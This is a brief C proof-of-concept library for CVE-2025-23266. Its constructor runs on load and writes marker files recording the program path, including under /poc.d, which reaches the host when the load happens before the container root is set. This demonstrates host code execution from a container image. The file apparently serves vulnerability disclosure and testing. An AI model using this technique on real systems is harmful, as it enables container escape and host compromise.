/* poc: what the image of CVE-2025-23266 has a hook load. Loaded into any program, it adds that program's path to `pwned`
 * in the working directory, and makes a file of its name in /poc.d: the host's, if the program runs before the root is the
 * container's.
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void leave(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
    if (fd < 0)
        return;
    if (write(fd, text, strlen(text)) < 0)
        _exit(99);
    close(fd);
}

__attribute__((constructor)) static void pwn(void)
{
    char text[PATH_MAX + 2], path[PATH_MAX + 16];
    ssize_t length = readlink("/proc/self/exe", text, PATH_MAX);
    if (length < 0)
        length = 0;
    text[length] = 0;
    const char *name = strrchr(text, '/');
    snprintf(path, sizeof(path), "/poc.d%s", name ? name : "/unknown");
    strcat(text, "\n");
    leave("pwned", text);
    leave(path, text);
}
